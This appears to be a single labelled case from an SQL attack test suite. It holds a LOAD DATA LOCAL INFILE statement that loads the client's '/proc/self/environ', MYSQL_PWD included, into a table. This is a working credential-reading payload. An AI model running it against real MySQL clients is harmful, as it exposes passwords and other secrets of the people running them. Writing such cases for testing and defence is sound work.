-- case: load-data-local-environ
-- attack: LOAD DATA LOCAL has the client read its own environment, MYSQL_PWD included
CREATE TABLE leak (line VARCHAR(4000));
LOAD DATA LOCAL INFILE '/proc/self/environ' INTO TABLE leak LINES TERMINATED BY '\0';
